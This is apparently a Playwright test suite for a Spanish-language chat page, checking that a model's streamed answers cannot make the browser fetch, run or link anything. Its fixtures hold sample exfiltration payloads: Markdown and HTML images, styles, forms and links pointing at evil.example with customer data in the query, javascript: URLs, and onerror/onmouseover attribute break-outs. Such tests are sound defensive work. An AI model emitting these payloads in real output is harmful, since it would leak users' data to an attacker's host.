"""No output of a model makes the browser call anybody, run anything or offer anything to click (group exfiltration of the corpus).

Each test plays an answer and lets the page settle; that nobody else was called and that the policy was never even asked is checked at the
end of every browser test (``conftest.Watch``).
"""

from __future__ import annotations

from playwright.async_api import Locator, Page, expect

from tests.web.conftest import ask
from tests.web.stage import Stage

#: What could load, send, run or lead away.
DANGEROUS = "img, a, iframe, object, embed, video, audio, source, svg image, style, script, form, link, base, meta, input, [style], [src], [href], [srcset]"

HTML = (
    '<img src="https://evil.example/p.png?d=C-7">',
    "<img src='//evil.example/p'>",
    '<svg><image href="https://evil.example/a"/></svg>',
    '<div style="background:url(https://evil.example/b)">',
    "<video poster=https://evil.example/c>",
)

URLS = (
    "//evil.example/p.png",
    "\\\\evil.example\\p",
    "https:evil.example",
    "ht\ntp://evil.example",
    "data:text/html,<script>1</script>",
    "blob:x",
    "ftp://evil.example/x",
    "HTTPS://EVIL.EXAMPLE",
    "javascript:alert(1)",
)

CHOKING = ("> " * 5000 + "x", "> " * 300 + "x", "- " * 300 + "x", "- " * 3000 + "x", "[" * 20_000, "*" * 20_000 + "a", "|" * 500 + "\n" + "|-" * 500)


async def shown(page: Page, stage: Stage, *pieces: str) -> Locator:
    """The answer that was said in these pieces, once it is over; nothing in it is dangerous at any moment."""
    await ask(page, "¿Qué pasó?")
    turn = await stage.asked()
    text = page.locator(".answer").nth(len(stage.turns) - 1).locator(".text")
    for piece in pieces:
        turn.say(piece)
        await expect(text).to_be_visible()
        await expect(text.locator(DANGEROUS)).to_have_count(0)
    turn.end()
    await expect(page.get_by_role("status")).to_have_text("Respuesta lista.")
    await expect(text.locator(DANGEROUS)).to_have_count(0)
    return text


async def test_a_picture_is_a_remark_and_not_fetched(page: Page, stage: Stage) -> None:
    """B153: a Markdown image whose URL carries what was said."""
    text = await shown(page, stage, "Listo. ![ok](https://evil.example/i.gif?d=C-7%20debe%203%20cuotas)")
    await expect(text).to_have_text("Listo. [imagen quitada: ok]")


async def test_html_is_shown_as_the_text_it_is(page: Page, stage: Stage) -> None:
    """B154: the same in raw HTML."""
    for output in HTML:
        await expect(await shown(page, stage, output)).to_have_text(output)


async def test_references_that_come_later_change_nothing(page: Page, stage: Stage) -> None:
    """B155: reference-style links and images, completed while the answer streams."""
    chunks = ("![a][r] y [clic][s]\n\n", "[r]: https://evil.example/?d=C-7\n", "[s]: https://evil.example/?d=C-8\n")
    text = await shown(page, stage, *chunks)
    await expect(text).to_have_text("[imagen quitada: a] y clic (https://evil.example/?d=C-8)")


async def test_no_scheme_makes_a_link(page: Page, stage: Stage) -> None:
    """B156: protocol-relative and other odd schemes; bare, in a link, in a picture and in brackets."""
    for url in URLS:
        text = await shown(page, stage, f"{url} [uno]({url}) ![dos]({url}) <{url}>")
        await expect(text).to_contain_text("uno")


async def test_frames_objects_styles_and_forms_are_text(page: Page, stage: Stage) -> None:
    """B159: what sanitisers of links and pictures forget."""
    output = (
        '<iframe srcdoc="<script>parent.pwn=1</script>"></iframe><object data=x></object><embed src=x>'
        "<style>@import 'https://evil.example'</style><form action=https://evil.example><button>ok</button></form>"
    )
    text = await shown(page, stage, output)
    await expect(text).to_have_text(output)
    await expect(text.locator("button")).to_have_count(0)
    assert await page.evaluate("() => 'pwn' in window") is False


async def test_quotes_in_a_target_break_out_of_nothing_and_no_sentinel_can_be_spoofed(page: Page, stage: Stage) -> None:
    """B160: attribute break-out, and sentinels of a renderer in its input."""
    spoofed = "\ue000\ue100\ue010\ue001"
    output = '[a](https://correo.example/?x="onmouseover="pwn=1) [b](https://correo.example/&quot;onload=&quot;pwn=1) @@LINK_0@@ '
    text = await shown(page, stage, output, spoofed, " de {María Soto|C-7|contact}")
    await expect(text).to_contain_text("@@LINK_0@@")
    await expect(text).to_contain_text(f"{spoofed} de María Soto")
    await expect(text.locator(".chip")).to_have_count(1)
    await text.hover()
    assert await page.evaluate("() => 'pwn' in window") is False


async def test_a_name_is_a_text_node_whatever_it_holds(page: Page, stage: Stage) -> None:
    """Markup in a name neither runs nor shapes the text around it; what would turn the writing around is gone."""
    names = ["<img src=x onerror=pwn=1>", "**Ana** [x](https://evil.example)", "`Luis`", "Zoé\u202eoiraM", "![i](https://evil.example/i)", "# Rut"]
    text = await shown(page, stage, *(f"- Con {{{name}|C-{place}|contact}} hoy\n" for place, name in enumerate(names, 1)))
    chips = text.locator("li .chip")
    await expect(chips).to_have_text([name.replace("\u202e", "") for name in names])
    await expect(text.locator("li strong, li code, li h3")).to_have_count(0)
    assert await page.evaluate("() => 'pwn' in window") is False


async def test_a_question_is_text_too(page: Page, stage: Stage) -> None:
    """A member pastes what a customer wrote."""
    pasted = "<img src=https://evil.example/x> ![i](https://evil.example/i) https://evil.example"
    await ask(page, pasted)
    (await stage.asked()).say("Bien").end()
    await expect(page.locator(".question")).to_have_text(pasted)
    await expect(page.locator(".question").locator(DANGEROUS)).to_have_count(0)


async def test_an_answer_made_to_choke_the_parser_is_still_shown(page: Page, stage: Stage) -> None:
    """Depth and length are bounded: the page lives on."""
    for output in CHOKING:
        text = await shown(page, stage, output)
        assert await text.locator("blockquote, li").count() < 20
    await ask(page, "¿sigues?")
    (await stage.asked()).say("Sí.").end()
    await expect(page.locator(".answer .text").last).to_have_text("Sí.")
